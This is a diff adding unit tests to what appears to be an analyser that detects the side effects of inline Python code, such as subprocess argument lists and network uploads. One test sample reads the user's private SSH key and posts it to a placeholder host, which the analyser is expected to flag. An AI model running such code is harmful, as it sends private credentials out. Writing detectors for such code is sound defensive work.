@@ -401,3 +401,24 @@ def test_starred_command_is_dynamic() -> None:
     assert py("import os; os.system(*['id'])") == Effects(
         markers=(("inline.dynamic-exec", "os.system"),)
     )
+
+
+def test_split_literal_becomes_argv() -> None:
+    assert py("import subprocess; subprocess.run('ls -la /root'.split())") == Effects(
+        nested=(("ls", "-la", "/root"),)
+    )
+    code = "import subprocess, shlex; subprocess.check_call(shlex.split(\"git commit -m 'a b'\"))"
+    assert py(code) == Effects(nested=(("git", "commit", "-m", "a b"),))
+
+
+def test_heredoc_script_with_function() -> None:
+    code = (
+        "import os, requests\n"
+        "def main():\n"
+        "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+        "    requests.post('https://x.example', data=key)\n"
+        "main()\n"
+    )
+    assert py(code) == Effects(
+        files=(FileRef(R, "~/.ssh/id_rsa"),), net=(NetRef(UPLOAD, "https://x.example"),)
+    )
